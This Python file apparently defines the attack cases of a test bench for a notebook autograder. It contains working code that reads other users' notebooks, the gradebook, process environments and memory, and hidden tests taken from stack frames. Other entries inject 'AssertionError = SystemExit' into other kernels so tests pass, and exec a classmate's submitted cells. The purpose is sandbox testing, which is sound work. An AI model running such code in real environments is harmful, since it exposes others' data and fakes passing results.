"""Look for the tests, the gradebook and other people's answers wherever they may lie, and show what was found."""

from attacks.attack import Attack

ATTACKS = [
    Attack(
        "notebooks",
        "Every notebook on the machine is read: sources, releases, what others handed in, autosaved copies.",
        """
import glob, os
for pattern in ("@ROOT@/**/*.ipynb", "**/*.ipynb", "../**/*.ipynb", "/tmp/**/*.ipynb", "/scratch/**/*",
                "@ROOT@/**/.ipynb_checkpoints/*", os.path.expanduser("~/**/*.ipynb")):
    for path in glob.glob(pattern, recursive=True)[:200]:
        try:
            print(path, open(path).read()[:100_000])
        except OSError as error:
            print(path, error.errno)
""",
    ),
    Attack(
        "names_that_appear",
        "The system is asked to tell the names of files as they are made in folders that cannot be opened.",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init1(0o4000)
for folder in ("@ROOT@", "@ROOT@/grading", os.path.dirname("@CANARY@"), "/tmp", "/", "."):
    if libc.inotify_add_watch(watch, folder.encode(), 0xFFF) >= 0:
        print("@GOT@", folder)
""",
    ),
    Attack(
        "gradebook",
        "The gradebook is read: with its own library, as a file, through the folder of open files.",
        """
import os, sqlite3
try:
    with sqlite3.connect("file:@GRADEBOOK@?mode=ro", uri=True) as db:
        for (table,) in db.execute("select name from sqlite_master where type='table'").fetchall():
            print(table, db.execute(f"select * from {table}").fetchall())
except Exception as error:
    print(error)
for path in ["@GRADEBOOK@", "/proc/1/root@GRADEBOOK@", *(f"/proc/self/fd/{n}" for n in range(64))]:
    try:
        print(path, open(path, "rb", buffering=0).read(1_000_000).decode("latin-1"))
    except Exception:
        pass
""",
    ),
    Attack(
        "history_and_frames",
        "When a test calls, the answer climbs up the stack and reads the tests in the callers and in the history.",
        """
import gc, sys
def loot():
    found, frame = [], sys._getframe()
    while frame:
        found.append(f"{frame.f_locals} {frame.f_globals.get('In')} {frame.f_globals.get('_ih')}"[:200_000])
        try:
            found.append(open(frame.f_code.co_filename).read())
        except OSError:
            pass
        frame = frame.f_back
    ip = get_ipython()
    found += [str(ip.history_manager.input_hist_raw), str(list(ip.history_manager.get_tail(100)))]
    found += [str(thing)[:2000] for thing in gc.get_objects() if type(thing) is str and "hidden" in thing]
    return [text for text in found if "hidden-test" in text]
def mean(x):
    raise ValueError(str(loot())[:1500])
""",
        answers={"scale": "def scale(x):\n    raise ValueError(str(loot())[-1500:])"},
    ),
    Attack(
        "other_kernels",
        "Connection files of other kernels are looked for, and a kernel that is found is told to pass everything.",
        """
import glob, json, os
from jupyter_client import BlockingKernelClient
places = ["~/.local/share/jupyter/runtime", "/root/.local/share/jupyter/runtime", "/tmp", "/run/user/*", "@ROOT@"]
mine = get_ipython().kernel.config.get("IPKernelApp", {}).get("connection_file", "")
for place in places:
    for path in glob.glob(os.path.expanduser(place) + "/**/kernel*.json", recursive=True)[:30]:
        if path == mine:
            continue
        try:
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute("if '_course_bench' in globals():\\n"  # no kernel of anybody else's is to suffer
                           "    import builtins; builtins.AssertionError = SystemExit")
            print("@GOT@", path)
            client.stop_channels()
        except Exception as error:
            print(path, type(error).__name__)
""",
    ),
    Attack(
        "other_processes",
        "Command lines, environments, open files and memory of all processes are read.",
        """
import glob, os, re
for folder in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "maps"):
        try:
            print(folder, name, open(f"{folder}/{name}", "rb").read(4000).replace(b"\\0", b" ").decode("latin-1"))
        except OSError:
            pass
    for link in glob.glob(f"{folder}/fd/*")[:50] + [f"{folder}/cwd/timestamp.txt", f"{folder}/root/etc/hostname"]:
        try:
            where = os.readlink(link) if "/fd/" in link else link
            print(where, open(link, "rb").read(2000) if "ipynb" in where or "grade" in where else "")
        except OSError:
            pass
try:
    with open("/proc/@BYSTANDER@/mem", "rb") as memory:
        print("@GOT@", memory)
except OSError as error:
    print(error.errno)
print({name: value for name, value in os.environ.items() if "SEED" in name or "GRAD" in name})
""",
    ),
    Attack(
        "canary",
        "A file in somebody's home folder is read by every way there is.",
        """
import ctypes, mmap, os, shutil, subprocess
path = "@CANARY@"
def read(): return open(path).read()
def low(): return os.read(os.open(path, os.O_RDONLY), 100)
def link(): os.symlink(path, "link"); return open("link").read()
def hard(): os.link(path, "hard"); return open("hard").read()
def copy(): shutil.copy(path, "copy"); return open("copy").read()
def libc():
    lib = ctypes.CDLL(None)
    fd = lib.open(path.encode(), 0)
    text = ctypes.create_string_buffer(100)
    lib.read(fd, text, 100)
    return text.value
def program(): return subprocess.run(["cat", path], capture_output=True, timeout=5).stdout
def shell(): return get_ipython().getoutput(f"cat {path}")
def root(): return open(f"/proc/1/root{path}").read()
def listing(): return os.listdir(os.path.dirname(path))
for way in (read, low, link, hard, copy, libc, program, shell, root, listing):
    try:
        print(way.__name__, way())
    except BaseException as error:
        print(way.__name__, type(error).__name__)
""",
    ),
    Attack(
        "classmate",
        "The answers are taken from what another student handed in.",
        answers={
            "mean": """
import glob, json, re
for path in ["@CLASSMATE@", *glob.glob("../../*/*/*.ipynb"), *glob.glob("@ROOT@/grading/submitted/*/*/*.ipynb")]:
    try:
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            print(text)
            exec(text, globals())
    except Exception as error:
        print(error)
""",
            "scale": "pass",
            "count": "pass",
        },
    ),
]
